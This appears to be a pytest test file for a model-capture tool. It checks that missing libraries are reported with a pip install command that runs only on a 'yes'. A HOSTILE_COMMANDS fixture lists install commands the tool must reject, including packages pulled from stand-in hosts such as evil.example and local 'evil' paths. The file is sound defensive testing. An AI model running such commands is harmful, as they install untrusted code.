"""The model's own libraries, missing from the capture interpreter (issue 36, item 5):
the import failure lists every library the model's files import at module level that
the interpreter lacks, with the one reviewed command that installs them; the command
line shows that exact command and runs it only when the person says yes; a workspace
folder that shadows an installed library is said."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from capture.graph.model import Capture, Coverage, Failure
from capture.session.model_dependencies import module_level_imports
from tensorviz_lsp.cli.commands.capture import offer_model_dependencies

ROOT = Path(__file__).resolve().parents[2]

MODEL = """\
import json
import tv_missing_tokenizer_lib
from helpers import double


def net(x):
    return double(x)
"""
HELPERS = """\
import math
import tv_missing_numeric_lib
try:
    import tv_optional_lib
except ImportError:
    tv_optional_lib = None


def double(x):
    return x * 2.0
"""


def cli(tmp_path, *argv, stdin=None):
    import fake_framework
    from capture.frameworks import TEST_PLUGINS_ENV

    env = {**os.environ, TEST_PLUGINS_ENV: fake_framework.PLUGIN, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-m", "tensorviz_lsp", *argv], cwd=tmp_path, env=env,
                          capture_output=True, text=True, timeout=180, stdin=stdin)


def test_module_level_imports_leave_optional_ones_out(tmp_path):
    (tmp_path / "model.py").write_text(MODEL)
    (tmp_path / "helpers.py").write_text(HELPERS)
    assert module_level_imports([tmp_path / "model.py", tmp_path / "helpers.py"]) == [
        "json", "tv_missing_tokenizer_lib", "helpers", "math", "tv_missing_numeric_lib"]


@pytest.mark.slow
def test_every_missing_library_and_the_command_that_adds_them(tmp_path):
    (tmp_path / "model.py").write_text(MODEL)
    (tmp_path / "helpers.py").write_text(HELPERS)
    done = cli(tmp_path, "capture", "model.py:net", "--framework", "fake", "--input", "x=float32[2,3]",
               stdin=subprocess.DEVNULL)
    assert done.returncode == 1, done.stderr
    command = f"{sys.executable} -m pip install tv_missing_tokenizer_lib tv_missing_numeric_lib"
    assert (f"the model imports tv_missing_tokenizer_lib, tv_missing_numeric_lib, which the capture interpreter "
            f"{sys.executable} lacks") in done.stderr
    assert f"To install, run:\n  {command}" in done.stderr
    assert "Run this command now?" not in done.stderr, "no terminal: nobody to ask, nothing installed"
    from capture.graph import graphfile

    failure = graphfile.read(tmp_path / ".tensorviz" / "captures" / "net.tvg").failure
    assert failure.stage == "import" and failure.details["missing_module"] == "tv_missing_tokenizer_lib"
    assert failure.details["missing"] == ["tv_missing_tokenizer_lib", "tv_missing_numeric_lib"]
    assert failure.details["install"][:4] == [sys.executable, "-m", "pip", "install"]


def _failed_import(install, python=sys.executable, **details):
    failure = Failure("ModuleNotFoundError", "importing 'model' failed: No module named 'tiktoken'", "import",
                      details={"missing_module": "tiktoken", "missing": ["tiktoken"], "install": install,
                               "python": python, **details})
    return SimpleNamespace(capture=Capture("fake", "fake", "1", Coverage("traced_program"), failure=failure),
                           job=SimpleNamespace(python=python))


def fake_python(tmp_path):
    """An interpreter that writes the arguments it was run with to ``ran`` (one a line)."""
    path = tmp_path / "bin" / "python"
    path.parent.mkdir()
    path.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {tmp_path / "ran"}\n')
    path.chmod(0o755)
    return str(path)


def test_nothing_is_installed_without_a_yes(tmp_path, capsys):
    python = fake_python(tmp_path)
    result = _failed_import([python, "-m", "pip", "install", "tiktoken"], python)
    assert offer_model_dependencies("capture", result, ask=lambda prompt: "n") is False
    err = capsys.readouterr().err
    assert "To install, run:" in err and "nothing was installed" in err
    assert not (tmp_path / "ran").exists()


def test_a_yes_runs_exactly_the_command_shown(tmp_path, capsys):
    python = fake_python(tmp_path)
    asked = []
    assert offer_model_dependencies("capture", _failed_import([python, "-m", "pip", "install", "tiktoken"], python),
                                    ask=lambda prompt: asked.append(prompt) or "y") is True
    assert asked == ["Run this command now? [y/N] "]
    assert (tmp_path / "ran").read_text().splitlines() == ["-m", "pip", "install", "tiktoken"]
    assert f"To install, run:\n  {python} -m pip install tiktoken" in capsys.readouterr().err


#: Install commands no parent makes (issue 52 items 1-2: each was offered, and run after "y").
HOSTILE_COMMANDS = {
    "shell": ["/bin/sh", "-c", "touch RAN"],
    "python -c": [sys.executable, "-c", "open('RAN', 'w')"],
    "index url": [sys.executable, "-m", "pip", "install", "--index-url=http://localhost:8765/simple", "tiktoken"],
    "upgrade": [sys.executable, "-m", "pip", "install", "-U", "tiktoken"],
    "force": [sys.executable, "-m", "pip", "install", "--force-reinstall", "tiktoken"],
    "target": [sys.executable, "-m", "pip", "install", "--target=/tmp/x", "tiktoken"],
    "requirements": [sys.executable, "-m", "pip", "install", "-r", "reqs.txt"],
    "editable": [sys.executable, "-m", "pip", "install", "-e", "."],
    "direct url": [sys.executable, "-m", "pip", "install", "tiktoken @ file:///tmp/evil"],
    "pre": [sys.executable, "-m", "pip", "install", "--pre", "tiktoken"],
    "path": [sys.executable, "-m", "pip", "install", "./evil"],
    "url": [sys.executable, "-m", "pip", "install", "https://evil.example/x.whl"],
    "wheel file": [sys.executable, "-m", "pip", "install", "evil.whl"],
    "specifier": [sys.executable, "-m", "pip", "install", "tiktoken>=0"],
    "other interpreter": ["/usr/bin/python3", "-m", "pip", "install", "tiktoken"],
    "a string": f"{sys.executable} -m pip install tiktoken",
}


@pytest.mark.parametrize("install", HOSTILE_COMMANDS.values(), ids=HOSTILE_COMMANDS.keys())
def test_a_command_the_parent_did_not_make_is_neither_offered_nor_run(install, tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    asked = []
    assert offer_model_dependencies("capture", _failed_import(install), ask=lambda p: asked.append(p) or "y") is False
    assert asked == [] and "To install" not in capsys.readouterr().err
    assert not (tmp_path / "RAN").exists()


@pytest.mark.slow
def test_a_workspace_folder_shadowing_an_installed_library_is_said(tmp_path):
    """Flax's own repository opened at its root: its flax/ was imported instead of the
    installed Flax, silently. Here the shadowed library is tqdm (a dependency of the test tools)."""
    pytest.importorskip("tqdm")
    (tmp_path / "tqdm").mkdir()
    (tmp_path / "tqdm" / "__init__.py").write_text("VERSION = 'the workspace copy'\n")
    (tmp_path / "model.py").write_text("import tqdm\n\n\ndef net(x):\n    return x * 2.0\n")
    done = cli(tmp_path, "capture", "model.py:net", "--framework", "fake", "--input", "x=float32[2,3]")
    assert done.returncode == 0, done.stderr
    assert "note: the workspace shadows installed libraries: tqdm/__init__.py instead of the installed tqdm" \
        in done.stderr, done.stderr
